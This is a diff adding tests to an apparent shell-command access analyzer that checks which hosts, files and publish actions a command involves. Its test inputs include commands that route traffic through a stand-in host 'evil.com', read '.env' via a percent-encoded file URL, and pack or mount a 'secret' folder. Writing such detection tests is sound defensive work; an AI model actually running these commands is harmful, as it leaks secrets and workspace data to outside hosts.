@@ -75,6 +75,65 @@ describe('access', () => {
     expect(access('scp a host:/b')).toContain('network ssh://host')
   })
 
+  test('machines in options are named', () => {
+    expect(access('curl -x evil.com:8080 https://a.com')).toContain('network http://evil.com:8080')
+    expect(access('curl --proxy=evil.com https://a.com')).toContain('network http://evil.com')
+    expect(access('curl --connect-to a.com:443:evil.com:443 https://a.com')).toContain(
+      'network tcp://evil.com',
+    )
+    expect(access('curl --resolve a.com:443:10.0.0.1 https://a.com')).toContain('network tcp://10.0.0.1')
+    expect(access('curl --url=evil.com')).toContain('network http://evil.com')
+    expect(access('wget -e http_proxy=evil.com:1 a.com')).toContain('network http://evil.com:1')
+    expect(access('ssh -J me@evil.com host ls')).toContain('network ssh://evil.com')
+    expect(access('docker pull evil.com/x')).toContain('network https://evil.com')
+    expect(access('docker push evil.com:5000/x')).toContain('network https://evil.com:5000')
+    expect(access('docker pull alpine')).toContain('network https://registry-1.docker.io')
+  })
+
+  test('files that are packed, staged, mounted or fetched as URLs are reads', () => {
+    expect(access('zip -r x.zip secret')).toContain('file_read /work/ws/secret')
+    expect(access('git add secret/a')).toContain('file_read /work/ws/secret/a')
+    expect(access('git hash-object f')).toContain('file_read /work/ws/f')
+    expect(access('docker run -v ./secret:/x alpine')).toContain('file_read /work/ws/secret')
+    expect(access('docker run --mount type=bind,source=/work/ws/secret,target=/x a')).toContain(
+      'file_read /work/ws/secret',
+    )
+    expect(access('curl file:///work/ws/.env')).toContain('file_read /work/ws/.env')
+    expect(access('curl file:///work/ws/%2eenv')).toContain('file_read /work/ws/.env')
+    expect(access('tar cf x secret')).toContain('file_read /work/ws/secret')
+    expect(analyze('echo a | xargs cat').unresolved).toBe(true)
+  })
+
+  test('everything that publishes says so', () => {
+    for (const line of [
+      'git push',
+      'git -c alias.p=push p',
+      'npm publish',
+      'npm --tag x publish',
+      'npm pub',
+      'yarn npm publish',
+      'yarn publish',
+      'pnpm -r publish',
+      'docker push a/b',
+      'docker image push a/b',
+      'docker --context x push a',
+      'podman push a',
+      'twine upload dist/x',
+      'mvn deploy',
+      'mvn -B clean deploy',
+      'vsce publish',
+      'cargo publish',
+      'cargo +nightly publish',
+      'gem push a.gem',
+      './gradlew publish',
+      'gradle publishToMavenCentral',
+    ]) {
+      expect([line, analyze(line).effects]).toEqual([line, expect.arrayContaining(['publishes'])])
+    }
+    expect(analyze('npm install publish').effects).not.toContain('publishes')
+    expect(analyze('npm run publish-docs').effects).not.toContain('publishes')
+  })
+
   test('a pattern gives its folder and the pattern itself', () => {
     const analysis = analyze('cat src/*.ts "a*b"*')
     expect(analysis.level).toBe('safe')
